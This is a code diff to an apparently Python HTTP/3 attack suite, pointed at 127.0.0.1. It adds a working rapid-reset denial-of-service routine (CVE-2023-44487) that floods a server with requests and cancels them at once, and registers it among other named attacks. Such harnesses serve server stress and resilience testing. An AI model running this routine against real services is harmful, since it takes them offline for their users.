@@ -463,15 +463,46 @@ async def unread_answers(aim: Aim) -> None:
                 return
             http = H3Connection(forged.connection)
             for _ in range(60):
-                stream = forged.connection.get_next_available_stream_id()
-                ask = {":method": "GET", ":scheme": "https", ":authority": "127.0.0.1", ":path": LARGE}
-                http.send_headers(stream, [(name.encode(), value.encode()) for name, value in ask.items()], True)
+                ask(http, forged)
             forged.serve()
             await last(aim)
         finally:
             forged.close()
 
     await asyncio.gather(*(one() for _ in range(32)))
+
+
+def ask(http: H3Connection, forged: Forged) -> int:
+    """Ask for the largest file; the stream."""
+    stream = forged.connection.get_next_available_stream_id()
+    asked = {":method": "GET", ":scheme": "https", ":authority": "127.0.0.1", ":path": LARGE}
+    http.send_headers(stream, [(name.encode(), value.encode()) for name, value in asked.items()], True)
+    return stream
+
+
+async def reset_requests(aim: Aim) -> None:
+    """Eight connections over HTTP/3 of one address that ask and take it back at once,
+    (CVE-2023-44487)."""
+
+    async def one() -> None:
+        while not aim.over:
+            forged = Forged(ONE, aim.quic, alpn="h3")
+            try:
+                if await forged.dial(2.0):
+                    http = H3Connection(forged.connection)
+                    while not aim.over and not forged.connection.ended:
+                        asked = [ask(http, forged) for _ in range(50)]
+                        forged.serve()
+                        for stream in asked:
+                            forged.connection.abandon_stream(stream, 0x10C)
+                        forged.serve()
+                        while forged.connection.open_streams > 20 and not aim.over and not forged.connection.ended:
+                            await asyncio.sleep(0.001)
+            finally:
+                forged.close()
+            await asyncio.sleep(0.05)
+
+    await asyncio.gather(*(one() for _ in range(8)))
 
 
 async def socket_messages(aim: Aim) -> None:
@@ -555,6 +586,7 @@ ATTACKS: dict[str, Callable[[Aim], Awaitable[None]]] = {
     "slow requests": slow_requests,
     "bodies": bodies,
     "unread answers": unread_answers,
+    "reset requests": reset_requests,
     "socket messages": socket_messages,
     "requests": requests,
     "attaches": attaches,
